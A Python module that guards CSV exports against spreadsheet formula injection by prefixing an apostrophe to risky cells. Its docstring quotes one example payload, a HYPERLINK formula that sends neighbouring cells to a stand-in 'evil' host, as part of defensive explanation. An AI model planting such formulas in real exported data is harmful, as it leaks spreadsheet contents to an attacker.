"""CSV cells that are safe to open in a spreadsheet (OWASP "CSV injection").

Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-`, `@`, a
tab or a carriage return as a formula: a sheet titled `=HYPERLINK("http://evil/?"&A1)`
would leak the neighbouring cells, and a DDE payload could start a program. Every cell
we export goes through `safe_cell`: such a cell gets a leading apostrophe (what OWASP
recommends; the spreadsheet then shows it as text), plain numbers are left alone, and
Markdown bullets at the start of a line (`- item`) become `• item`, so a list opens as
text rather than as a broken formula (`- item` alone reads as "minus item").
"""

from __future__ import annotations

import re

# the ASCII triggers, their full-width forms (some spreadsheets accept those too), tab, CR
FORMULA_START = frozenset("=+-@\t\r＝＋－＠")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_BULLET = re.compile(r"^([ \t]*)[-*+][ \t]+(?=\S)", re.M)


def safe_cell(value: object) -> str:
    """A value as CSV cell text that no spreadsheet will run as a formula."""
    text = "" if value is None else str(value)
    text = _BULLET.sub(r"\1• ", text)
    if text and text[0] in FORMULA_START and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def safe_row(row: dict[str, object]) -> dict[str, str]:
    """Every cell of a row made safe."""
    return {key: safe_cell(value) for key, value in row.items()}
